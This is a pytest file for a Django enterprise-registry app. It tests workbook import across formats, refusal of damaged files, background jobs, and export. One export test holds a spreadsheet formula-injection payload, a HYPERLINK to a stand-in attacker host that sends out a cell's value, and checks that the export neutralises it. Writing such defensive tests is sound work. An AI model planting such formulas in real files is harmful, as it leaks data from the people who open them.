"""The import reads what offices send (.xlsx, .xls, .ods saved by another office suite), refuses
what is no workbook with a clear reason, runs large files in the background, and the export
writes values and labels."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from anjian.celery import app
from anjian.core.models import Job
from anjian.core.sheets import open_book
from anjian.enterprises.excel import COLUMNS
from anjian.enterprises.exporter import export_workbook
from anjian.enterprises.importer import apply_import, plan_import
from anjian.enterprises.models import Enterprise, Licence
from anjian.enterprises.tests.conftest import make_enterprise
from anjian.enterprises.tests.test_importer import row, workbook
from anjian.orgs.models import Town
from conftest import make_user

pytestmark = pytest.mark.django_db

OFFICE = Path(__file__).parent / "office"
FORMATS = ["xlsx", "xls", "ods"]


def _office(kind: str) -> Path:
    return OFFICE / f"registry-libreoffice.{kind}"


@pytest.mark.parametrize("kind", FORMATS)
def test_a_workbook_saved_by_libreoffice_imports_in_every_format(kind):
    with _office(kind).open("rb") as handle:
        plan = plan_import(handle, actor=None)
    assert plan.ok, plan.errors
    assert apply_import(plan, actor=None) == (2, 0)
    chemical = Enterprise.objects.get(credit_code="91370481MATEA1771J")
    assert chemical.former_names == ["滕州市鑫源化工厂", "滕州鑫源"]
    assert (chemical.employees, chemical.annual_revenue) == (120, Decimal("3456.78"))
    assert chemical.standardisation_expires == date(2026, 12, 31)
    assert chemical.above_designated_size and chemical.standardisation_grade == "2"
    assert set(chemical.categories.values_list("key", flat=True)) == {
        "whp_production",
        "dust_explosion",
    }
    machinery = Enterprise.objects.get(credit_code="91370481MAC2C4EL8W")
    assert machinery.status == "suspended" and machinery.insurance_expires == date(2027, 3, 1)
    licence = Licence.objects.get()
    assert (licence.enterprise, licence.issued_on) == (chemical, date(2025, 1, 15))


@pytest.mark.parametrize("kind", ["xls", "ods"])
def test_errors_in_an_xls_or_ods_are_annotated_in_an_xlsx_of_its_values(
    kind, client, settings, tmp_path
):
    """A town outside 洪绪镇 imports the file: every row is outside its territory."""
    settings.VAR_DIR = tmp_path
    other = Town.objects.exclude(name="洪绪镇").order_by("code").first()
    client.force_login(make_user("town_x", ("town", other.code)))
    with _office(kind).open("rb") as handle:
        response = client.post("/enterprises/import/", {"file": handle})
    preview = response.context["preview"]
    assert [(e.sheet, e.row, e.column) for e in preview.errors] == [
        ("企业名录", 3, "镇街"),
        ("企业名录", 4, "镇街"),
    ]
    download = client.get(f"/enterprises/import/{response.context['token']}/errors.xlsx")
    sheet = load_workbook(io.BytesIO(download.content))["企业名录"]
    town_column = [c.header for c in COLUMNS].index("镇街") + 1
    assert "不在您的管辖范围内" in sheet.cell(row=3, column=town_column).comment.text
    assert sheet.cell(row=3, column=1).value == "91370481MATEA1771J"
    assert not Enterprise.objects.exists()


def _not_workbooks(tmp_path: Path) -> list[tuple[Path, str]]:
    whole = workbook(row()).getvalue()
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    files = {
        "notes.xlsx": (b"credit_code,name\n", "不是Excel或WPS工作簿"),
        "truncated.xlsx": (whole[: len(whole) // 2], "损坏或不完整"),
        "empty.xlsx": (empty.getvalue(), "压缩包中没有任何内容"),
    }
    paths = []
    for name, (data, reason) in files.items():
        path = tmp_path / name
        path.write_bytes(data)
        paths.append((path, reason))
    return paths


def test_the_command_names_the_file_and_what_is_wrong_and_writes_nothing(tmp_path):
    """Issue 11.14: not a workbook, a truncated one, an empty zip: no traceback."""
    for path, reason in _not_workbooks(tmp_path):
        with pytest.raises(CommandError) as refused:
            call_command("import_enterprises", str(path))
        assert str(path) in str(refused.value) and reason in str(refused.value)
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_enterprises", str(tmp_path / "absent.xlsx"))
    assert not Enterprise.objects.exists()


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_page_says_why_a_file_is_no_workbook_in_the_users_language(
    language, client, city, settings, tmp_path
):
    settings.VAR_DIR = tmp_path
    client.force_login(city)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    expected = {
        "zh-hans": ["不是Excel或WPS工作簿", "损坏或不完整", "压缩包中没有任何内容"],
        "en": ["not an Excel or WPS workbook", "damaged or incomplete", "archive is empty"],
    }[language]
    for (path, _reason), reason in zip(_not_workbooks(tmp_path), expected, strict=True):
        with path.open("rb") as handle:
            response = client.post("/enterprises/import/", {"file": handle})
        assert response.status_code == 200
        [message] = response.context["form"].errors["file"]
        assert path.name in message and reason in message, message
    assert not Enterprise.objects.exists()


@pytest.fixture
def eager():
    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = False


def test_a_large_import_is_checked_and_applied_in_background_jobs_with_progress(
    client, city, settings, tmp_path, eager, django_capture_on_commit_callbacks
):
    settings.VAR_DIR = tmp_path
    settings.SHEETS_BACKGROUND_ROWS = 3  # the header rows and two enterprises
    client.force_login(city)
    upload = workbook(row(), row(name="滕州市恒泰机械有限公司", industry="3411"))
    upload.name = "large.xlsx"
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/enterprises/import/", {"file": upload})
    check = Job.objects.get(owner=city)
    assert response.url == f"/jobs/{check.pk}/" and check.state == "succeeded"
    assert check.progress == 100 and "校验 3/3" in check.log
    review = client.get(check.result["next"])
    assert review.context["preview"].counts["creates"] == 2 and not Enterprise.objects.exists()
    token = review.context["token"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/enterprises/import/{token}/confirm/")
    apply = Job.objects.filter(owner=city).exclude(pk=check.pk).get()
    assert response.url == f"/jobs/{apply.pk}/" and apply.state == "succeeded", apply.error
    assert "新增2家" in apply.result["message"] and Enterprise.objects.count() == 2


def test_the_export_writes_values_never_formulas_and_labels_not_codes(towns, tmp_path):
    """Issue 11.4 and the category column: what the export writes imports back."""
    attack = '=HYPERLINK("http://evil.example/?x="&A3,"点击查看")'
    enterprise = make_enterprise(
        towns[0], "滕州市甲化工有限公司", address=attack, principal="@SUM(1)"
    )
    enterprise.categories.set(
        enterprise.categories.model.objects.filter(key__in=["metal_smelting", "dust_explosion"])
    )
    data, _count = export_workbook(Enterprise.objects.all())
    sheet = load_workbook(io.BytesIO(data))["企业名录"]
    headers = [c.value for c in sheet[1]]
    address = sheet.cell(row=3, column=headers.index("地址") + 1)
    assert (address.value, address.data_type) == (attack, "s")
    assert sheet.cell(row=3, column=headers.index("主要负责人") + 1).data_type == "s"
    categories = sheet.cell(row=3, column=headers.index("监管类别") + 1).value
    assert sorted(categories.split("；")) == ["粉尘涉爆", "金属冶炼"]
    assert all(ord(c) > 127 or c in "；" for c in categories)  # no raw keys
    path = tmp_path / "export.xlsx"
    path.write_bytes(data)
    Enterprise.objects.all().delete()
    call_command("import_enterprises", str(path))
    again = Enterprise.objects.get()
    assert again.address == attack and again.principal == "@SUM(1)"
    assert set(again.categories.values_list("key", flat=True)) == {
        "metal_smelting",
        "dust_explosion",
    }
    assert open_book(data, ["企业名录"]).format == "xlsx"
